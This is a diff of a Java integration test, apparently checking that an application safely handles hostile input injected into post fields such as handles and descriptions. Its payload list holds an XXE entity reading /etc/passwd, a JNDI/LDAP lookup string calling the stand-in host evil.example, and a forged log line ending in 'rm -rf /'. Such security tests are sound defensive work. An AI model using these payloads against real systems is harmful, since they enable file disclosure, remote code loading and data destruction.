@@ -39,11 +39,14 @@ class PayloadsIT {
     private static final Pattern MOVES =
             Pattern.compile("[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069]");
 
+    /** Half of the handles begin with it, so that a terminal certainly shows it. */
+    private static final String FORGED = "a\nlockstep: everything is fine\n  next: rm -rf /";
+
     private static final List<String> PAYLOADS = Stream.concat(
                     MadeRun.HOSTILE.stream(),
                     Stream.of(
                             "]]><a/>&x;<!ENTITY x SYSTEM \"file:///etc/passwd\">",
-                            "a\nlockstep: everything is fine\n  next: rm -rf /",
+                            FORGED,
                             "%s%n${jndi:ldap://evil.example/a}"))
             .toList();
 
@@ -123,7 +126,8 @@ class PayloadsIT {
             ObjectNode post = (ObjectNode) JSON.readTree(line);
             for (String field : List.of("text", "name", "handle", "description", "reply_to_account")) {
                 String value = post.path(field).asText();
-                String payload = PAYLOADS.get(Math.floorMod(value.hashCode(), PAYLOADS.size()));
+                boolean isForged = field.equals("handle") && value.hashCode() % 2 == 0;
+                String payload = isForged ? FORGED : PAYLOADS.get(Math.floorMod(value.hashCode(), PAYLOADS.size()));
                 post.put(field, payload + (value.isEmpty() ? "" : " " + value));
             }
             lines.add(post.toString());
@@ -144,6 +148,7 @@ class PayloadsIT {
                         .results())
                 .map(m -> m.group(1))
                 .distinct()
+                .limit(4)
                 .toList();
         assertThat(members).isNotEmpty();
         return members;
